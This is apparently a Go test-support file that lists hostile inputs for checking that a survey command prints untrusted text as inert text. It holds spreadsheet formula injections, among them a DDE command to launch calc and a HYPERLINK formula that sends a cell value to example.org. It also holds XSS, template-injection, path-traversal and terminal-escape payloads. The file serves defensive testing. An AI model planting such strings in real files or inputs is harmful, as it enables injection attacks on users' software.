// Package hostile makes surveys in which every text that somebody else can
// write is an attack: answers, labels, names, titles, files. The tests beside
// it give them to the built command and look at all that it writes and prints:
// an attack must come out as the text that it is, and do nothing.
package hostile

// mark stands in every attack, so that it can be found again in what is written.
const mark = "zmark"

// Text is one attack.
type Text struct {
	Name string // what it tries
	Text string
}

// Texts returns attacks on spreadsheets, pages, templates, terminals and paths.
// They can stand in one cell of CSV; those on terminals hold control signs.
func Texts() []Text {
	return []Text{
		{"formula", `=1+1+cmd|' /C calc'!A0 ` + mark},
		{"plus", `+SUM(1,2) ` + mark}, {"minus", `-1+SUM(1) ` + mark}, {"at", `@SUM(1+9)*cmd|' /C calc'!A0 ` + mark},
		{"wide equals", "\uff1d1+1 " + mark}, {"wide plus", "\uff0b1 " + mark}, {"wide minus", "\uff0dx " + mark}, {"wide at", "\uff20SUM(1) " + mark},
		{"blank before", `  =1+1 ` + mark}, {"zero width before", "\u200b\u2060=1+1 " + mark}, {"no-break before", "\u00a0=1+1 " + mark},
		{"link formula", `=HYPERLINK("http://example.org/?x="&A1,"` + mark + `")`}, {"web formula", `=WEBSERVICE("http://example.org/` + mark + `")`},
		{"quoted formula", `'=1+1 ` + mark}, {"behind a semicolon", mark + `;=1+1;@x`}, {"behind a quote", `"=1+1" ` + mark}, {"behind a line end", mark + "\n=1+1\n+x"},
		{"script", `<script>document.title="` + mark + `"</script>`}, {"closing script", `</script></style></title><script>alert(1)</script>` + mark},
		{"handler", `"><img src=x onerror=alert(1)> ` + mark}, {"attribute", `' onmouseover='alert(1)' x='` + mark}, {"svg", `</text></svg><svg onload=alert(1)> ` + mark},
		{"comment", `<!-- ` + mark + ` --!> <![CDATA[ ]]>`}, {"style", `</style><style>*{display:none}</style> ` + mark}, {"address", `javascript:alert(1)//` + mark},
		{"markdown", `[` + mark + `](javascript:alert(1)) ![x](http://example.org/x)`}, {"frame", `<iframe src="http://example.org"></iframe><base href="//example.org">` + mark},
		{"entities", `&lt;script&gt;alert(1)&lt;/script&gt; &#x202e; &#27;[2J ` + mark},
		{"go template", `{{.}}{{printf "%s" .Policy}} ` + mark}, {"other template", `${7*7} #{7*7} <%= 7*7 %> %s%n ` + mark},
		{"path", `../../../../` + mark}, {"absolute path", `/tmp/` + mark}, {"drive", `C:\` + mark}, {"yaml", mark + ": {threshold: 5}\n- !!x &a *a"},
	}
}

// Controls returns attacks that hold signs which steer terminals or turn text round.
func Controls() []Text {
	return []Text{
		{"clear", "\x1b[2J\x1b[1;31m" + mark}, {"link", "\x1b]8;;http://example.org\x1b\\" + mark + "\x1b]8;;\x1b\\"}, {"clipboard", "\x1b]52;c;eA==\x07" + mark},
		{"bell", "\x07\x08\x08" + mark}, {"C1", "\u009b2J\u0090" + mark + "\u009c"}, {"override", "\u202e" + mark + "\u202d"}, {"isolates", "\u2069\u2069" + mark + "\u2066\u2067"},
		{"tab", "\t=1+1 " + mark}, {"returns", mark + "\r=1+1"}, {"separators", mark + "\u2028\u2029=1"}, {"tags", mark + "\U000e0041\U000e007f"},
	}
}
